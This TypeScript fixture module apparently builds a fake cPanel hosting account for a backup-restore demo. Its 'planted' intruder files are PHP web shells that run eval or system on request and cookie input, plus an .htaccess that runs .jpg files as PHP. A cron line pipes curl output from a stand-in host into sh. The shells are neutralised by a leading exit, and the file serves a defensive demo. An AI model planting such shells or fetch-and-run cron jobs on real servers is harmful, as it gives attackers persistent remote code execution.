/** One file of the made-up account: path below the home, text. */
export type DemoFiles = ReadonlyMap<string, string>;

export const DEMO_USER = 'demo';
/** The backup that the demo must choose, counted from the oldest. */
export const DEMO_LAST_GOOD = 3;

/** The account as it was before anybody broke in: four domains, three CMS, and an old copy that everybody forgot. */
export function cleanDemoFiles(): DemoFiles {
  return new Map([
    ...prefixed(
      'public_html',
      wordpress('6.4.2', [
        ['contact-form-7', 'Contact Form 7', '5.3.1'],
        ['wp-file-manager', 'File Manager', '6.8'],
      ]),
    ),
    ...prefixed('public_html/blog', wordpress('5.8.1', [['akismet', 'Akismet Anti-spam', '4.1.12']])),
    ...prefixed('club.test', joomla(5, 1, 2)),
    ...prefixed('shop.test', magento('2.4.6-p1')),
    ...prefixed('old/website-2018', wordpress('4.9.8', [])),
    ['mail/example.test/info/cur/.keep', ''],
    ['etc/example.test/passwd', 'info:x:1000:1000::/home/demo/mail/example.test/info:/home/demo\n'],
    ['.bash_profile', '# .bash_profile\nexport PATH=$PATH:$HOME/bin\n'],
  ]);
}

/** What the intruder of the story left behind. Inert: each ends before its first statement, and names no real host. */
export function plantedDemoFiles(): DemoFiles {
  const stop = '<?php exit; // lastgood demo: inert\n';
  return new Map([
    ['public_html/wp-content/uploads/2026/09/thumb.php', `${stop}@${'ev'}al($_POST['p']);\n`],
    ['public_html/wp-includes/class-wp-cache-helper.php', `${stop}$f = $_REQUEST['f'];\n$f($_REQUEST['a']);\n`],
    ['public_html/blog/wp-content/mu-plugins/loader.php', `${stop}${'ev'}al(base64_decode($_COOKIE['s']));\n`],
    ['club.test/images/banner.php', `${stop}${'sys'}tem($_GET['c']);\n`],
    [
      'shop.test/pub/media/.htaccess',
      'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file /home/demo/shop.test/pub/media/logo.jpg\n',
    ],
  ]);
}

/** The job that brings the files back, as the panel keeps it: outside of the home. */
export const DEMO_CRON = '# lastgood demo\n*/5 * * * * curl -s http://example.invalid/x.txt | sh >/dev/null 2>&1\n';

/** The panel's own description of the account, by absolute path. */
export function panelDemoFiles(): DemoFiles {
  const line = (domain: string, kind: string, base: string, root: string) =>
    `${domain}: ${DEMO_USER}==root==${kind}==${base}==/home/${DEMO_USER}/${root}==192.0.2.10:80==192.0.2.10:443====0==ea-php81\n`;
  return new Map([
    [
      'etc/userdatadomains',
      line('example.test', 'main', 'example.test', 'public_html') +
        line('blog.example.test', 'sub', 'example.test', 'public_html/blog') +
        line('club.test', 'addon', 'club.example.test', 'club.test') +
        line('shop.test', 'addon', 'shop.example.test', 'shop.test'),
    ],
    [
      `var/cpanel/userdata/${DEMO_USER}/main`,
      `---\naddon_domains:\n  club.test: club.example.test\n  shop.test: shop.example.test\nmain_domain: example.test\nparked_domains: []\nsub_domains:\n  - blog.example.test\n  - club.example.test\n  - shop.example.test\n`,
    ],
    [`etc/passwd`, `${DEMO_USER}:x:1000:1000::/home/${DEMO_USER}:/bin/bash\n`],
  ]);
}

const WORDPRESS_KEYS = ['AUTH', 'SECURE_AUTH', 'LOGGED_IN', 'NONCE'].flatMap((name) => [`${name}_KEY`, `${name}_SALT`]);

/** As much of WordPress as says which version it is and what is installed in it: nothing of the vendor's own is copied. */
function wordpress(
  version: string,
  plugins: readonly (readonly [slug: string, name: string, version: string])[],
): DemoFiles {
  return new Map([
    [
      'wp-includes/version.php',
      `<?php\n$wp_version = '${version}';\n$wp_db_version = 56657;\n$required_php_version = '7.0.0';\n`,
    ],
    ['wp-admin/.keep', ''],
    [
      'wp-config.php',
      "<?php\ndefine( 'DB_NAME', 'demo_wp' );\ndefine( 'DB_USER', 'demo_wp' );\ndefine( 'DB_PASSWORD', 'not-a-real-one' );\n" +
        WORDPRESS_KEYS.map((name) => `define( '${name}', 'not-a-real-one-either' );\n`).join('') +
        "$table_prefix = 'wp_';\n",
    ],
    ['wp-content/themes/twentytwentyfour/style.css', '/*\nTheme Name: Twenty Twenty-Four\nVersion: 1.0\n*/\n'],
    ['wp-content/uploads/2026/08/team.txt', 'a picture of the team\n'],
    ...plugins.map(([slug, name, own]): [string, string] => [
      `wp-content/plugins/${slug}/${slug}.php`,
      `<?php\n/*\n * Plugin Name: ${name}\n * Version: ${own}\n */\n`,
    ]),
  ]);
}

function joomla(major: number, minor: number, patch: number): DemoFiles {
  return new Map([
    [
      'libraries/src/Version.php',
      `<?php\nnamespace Joomla\\CMS;\nfinal class Version\n{\n\tconst PRODUCT = 'Joomla!';\n\tconst MAJOR_VERSION = ${major};\n\tconst MINOR_VERSION = ${minor};\n\tconst PATCH_VERSION = ${patch};\n\tconst DEV_STATUS = 'Stable';\n}\n`,
    ],
    ['configuration.php', "<?php\nclass JConfig {\n\tpublic $host = 'localhost';\n\tpublic $dbprefix = 'jos_';\n}\n"],
    [
      'administrator/manifests/files/joomla.xml',
      `<?xml version="1.0"?>\n<extension type="file"><name>files_joomla</name><version>${major}.${minor}.${patch}</version></extension>\n`,
    ],
    ['images/index.html', '<!DOCTYPE html><title></title>\n'],
  ]);
}

function magento(version: string): DemoFiles {
  const edition = { name: 'magento/product-community-edition', version };
  const framework = { name: 'magento/framework', version: '103.0.6' };
  return new Map([
    [
      'composer.json',
      `${JSON.stringify({ name: 'magento/project-community-edition', require: { [edition.name]: version } }, null, 2)}\n`,
    ],
    ['composer.lock', `${JSON.stringify({ packages: [framework, edition] }, null, 2)}\n`],
    ['bin/magento', '#!/usr/bin/env php\n'],
    ['app/etc/env.php', "<?php\nreturn ['db' => ['table_prefix' => '']];\n"],
    ['pub/media/catalog/readme.txt', 'pictures of the products\n'],
  ]);
}

function prefixed(folder: string, files: DemoFiles): DemoFiles {
  return new Map([...files].map(([path, text]) => [`${folder}/${path}`, text]));
}
